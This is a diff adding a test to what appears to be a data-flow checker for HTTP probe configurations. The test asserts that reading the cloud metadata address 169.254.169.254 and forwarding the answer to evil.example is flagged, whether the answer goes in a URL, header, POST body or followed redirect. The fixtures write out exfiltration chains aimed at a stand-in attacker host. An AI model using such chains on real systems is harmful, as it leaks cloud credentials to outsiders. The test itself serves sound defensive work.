@@ -84,6 +84,24 @@ test.each(['kind', 'region', 'every', 'timeout', 'settle', 'history', 'needs', '
   },
 );
 
+test('an answer that is carried to another host is sent there', async () => {
+  const steps = (...given: readonly string[]): string =>
+    `kind: http, steps: [ ${given.map((step, index) => `{ name: s${index}, ${step} }`).join(', ')} ]`;
+  const read = 'read: { step: s0, read: status }';
+  const first = 'url: "http://169.254.169.254/latest", keep: { a: /a, next: "header:Location" }';
+  const sent = 'an answer of 169.254.169.254 → evil.example';
+  for (const second of [
+    'url: "https://evil.example/<<a>>"',
+    'url: "https://evil.example/", headers: { x: "<<a>>" }',
+    'url: "https://evil.example/", method: POST, body: "<<a>>", changes: nothing',
+  ])
+    expect(await sendsOf(steps(first, second), read)).toEqual([sent]);
+  const followed = steps(first, 'url: "<<next>>", keep: { b: /b }', 'url: "https://evil.example/<<b>>"');
+  expect(await sendsOf(followed, read)).toEqual([sent]);
+  expect(await sendsOf(steps(first, 'url: "http://169.254.169.254/<<a>>"'), read)).toEqual([]);
+  expect(await sendsOf(steps(first, 'url: "http://127.0.0.1/<<a>>"'), read)).toEqual([]);
+});
+
 test('the region stands in what is signed', async () => {
   const source = 'kind: cloudwatch, region: "${REGION}", endpoint: "https://c.example", anonymous: true';
   const read = 'read: { namespace: A, metric: m, stat: Sum, period: 60s }';
